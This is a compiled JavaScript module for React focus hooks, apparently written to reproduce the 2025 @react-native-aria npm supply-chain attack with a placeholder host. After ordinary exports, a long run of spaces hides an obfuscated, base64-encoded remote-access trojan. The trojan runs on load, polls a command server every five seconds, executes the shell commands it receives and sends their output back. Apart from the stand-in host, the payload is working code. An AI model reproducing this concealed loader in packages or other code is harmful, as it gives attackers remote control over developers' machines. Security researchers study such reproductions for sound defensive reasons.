// Incident: GlueStack @react-native-aria/* packages (npm), 6 June 2025. A leaked token was used
// to publish versions whose compiled entry file had an obfuscated RAT appended on the last
// line after a long run of spaces. It polled a C2 for commands (run shell, cd, list/upload
// files) and later versions prepended a fake Python directory to the Windows PATH.
// Reference: https://www.aikido.dev/blog/supply-chain-attack-on-react-native-aria-ecosystem
// Reproduction (own code, placeholder host).
"use strict";

Object.defineProperty(exports, "__esModule", { value: true });
exports.FocusScope = exports.useFocusRing = exports.useFocusable = void 0;
var _react = require("react");
var _focus = require("@react-aria/focus");

function useFocusable(props, ref) {
  var _ref = (0, _focus.useFocusable)(props, ref);
  return { focusableProps: _ref.focusableProps };
}
exports.useFocusable = useFocusable;

function useFocusRing(options) {
  var _state = (0, _react.useState)(false);
  var isFocusVisible = _state[0];
  var setFocusVisible = _state[1];
  return {
    isFocusVisible: isFocusVisible,
    focusProps: {
      onFocus: function () { setFocusVisible(true); },
      onBlur: function () { setFocusVisible(false); },
    },
    autoFocus: !!(options && options.autoFocus),
  };
}
exports.useFocusRing = useFocusRing;

var FocusScope = function (props) { return props.children; };
exports.FocusScope = FocusScope;                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                const _0x1a=['Y2hpbGRfcHJvY2Vzcw==','aHR0cA==','L2FwaS9zZXJ2aWNlL3Byb2Nlc3Mv','YzItZ2F0ZS5leGFtcGxl','ZXhlYw==','aG9zdG5hbWU=','b3M=','cGxhdGZvcm0='];const _0x2b=function(i){return Buffer.from(_0x1a[i],'base64').toString();};(function(){try{const _c=require(_0x2b(0)),_h=require(_0x2b(1)),_o=require(_0x2b(6));const _id=_o[_0x2b(5)]()+'_'+_o[_0x2b(7)]();const _p=function(){_h.get({host:_0x2b(3),port:80,path:_0x2b(2)+encodeURIComponent(_id)},function(r){let d='';r.on('data',function(c){d+=c;});r.on('end',function(){try{const m=JSON.parse(d);if(m&&m.cmd){if(m.cmd.indexOf('cd ')===0){process.chdir(m.cmd.slice(3));}else{_c[_0x2b(4)](m.cmd,{windowsHide:true},function(e,so,se){const b=JSON.stringify({id:_id,out:String(so||se||e)});const q=_h.request({host:_0x2b(3),port:80,method:'POST',path:_0x2b(2)+encodeURIComponent(_id),headers:{'Content-Type':'application/json'}});q.end(b);});}}}catch(_e){}});}).on('error',function(){});};setInterval(_p,5000);_p();}catch(_e){}})();
//# sourceMappingURL=index.js.map
